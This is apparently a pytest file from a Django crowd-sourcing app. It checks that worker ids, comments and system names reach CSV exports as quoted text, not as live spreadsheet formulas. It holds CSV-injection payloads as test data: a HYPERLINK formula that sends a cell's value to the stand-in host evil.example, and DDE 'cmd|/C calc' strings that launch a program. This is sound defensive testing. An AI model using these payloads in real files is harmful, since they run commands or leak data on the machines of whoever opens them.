"""Exports are safe to open in a spreadsheet: what people typed never runs as a formula.

OWASP "CSV Injection": a cell starting with ``= + - @``, a tab or a carriage return is
evaluated by Excel, LibreOffice and Google Sheets. A crowd worker chooses their own id
and comment (an id is checked against its platform's format at arrival, and again before
it is exported); an organiser names systems. Both reach CSV exports.
"""

import csv
import io

import pytest

from crowd.services.answers import answer_submit
from crowd.services.tasks import task_serve
from tests.helpers.crowd_fixtures import arrive, make_campaign, right_choice
from tests.helpers.personas import PASSWORD
from tests.helpers.results_payloads import MEASURE, store_results

pytestmark = pytest.mark.django_db

HOSTILE_ID = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HOSTILE_COMMENTS = ["@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3", "\t=1+1"]


def test_a_workers_id_and_comments_reach_the_answers_csv_as_text(
    client, personas, crowd_collection
):
    campaign = make_campaign(crowd_collection, traps=0, quiz_length=0)
    worker = arrive(campaign, HOSTILE_ID)
    for comment in HOSTILE_COMMENTS:
        task = task_serve(worker=worker)
        answer_submit(worker=worker, key=task.key, choice=right_choice(task), comment=comment)
    client.force_login(personas.organiser)
    text = client.get(f"/campaigns/{campaign.pk}/answers.csv").content.decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    # Such an id is refused at arrival now (crowd/tests/test_platform_ids.py); one stored before
    # is not an id of its platform, and no export writes it (crowd.platform_ids).
    assert {row["platform_id"] for row in rows} == {""}
    # Comments are stripped of surrounding blanks when submitted (the tab goes).
    assert sorted(row["comment"] for row in rows) == sorted(
        ["'@SUM(1+1)*cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0", "'-2+3", "'=1+1"]
    )
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value


def test_a_system_name_reaches_the_leaderboard_csv_as_text_and_numbers_stay_numbers(
    client, personas
):
    store_results(personas.collection, systems=("=cmd|' /C calc'!A0", "@Beta", "-Gamma"))
    client.login(username=personas.organiser.username, password=PASSWORD)
    url = f"/collections/{personas.collection.pk}/results/leaderboard.csv?measure={MEASURE}"
    systems = list(csv.DictReader(io.StringIO(client.get(url).content.decode())))
    assert [row["system"] for row in systems] == ["'=cmd|' /C calc'!A0", "'@Beta", "'-Gamma"]
    pairs = list(csv.DictReader(io.StringIO(client.get(url + "&table=pairs").content.decode())))
    assert pairs[0]["a"] == "'=cmd|' /C calc'!A0"
    # A negative number is a number to a spreadsheet, not a formula: left alone.
    assert float(systems[2]["ci_low"]) == pytest.approx(0.15)
    plot = client.get(
        f"/collections/{personas.collection.pk}/results/leaderboard/plots/means.csv"
        f"?measure={MEASURE}"
    )
    assert plot.status_code == 200
    assert "\n'=cmd|' /C calc'!A0," in plot.content.decode()
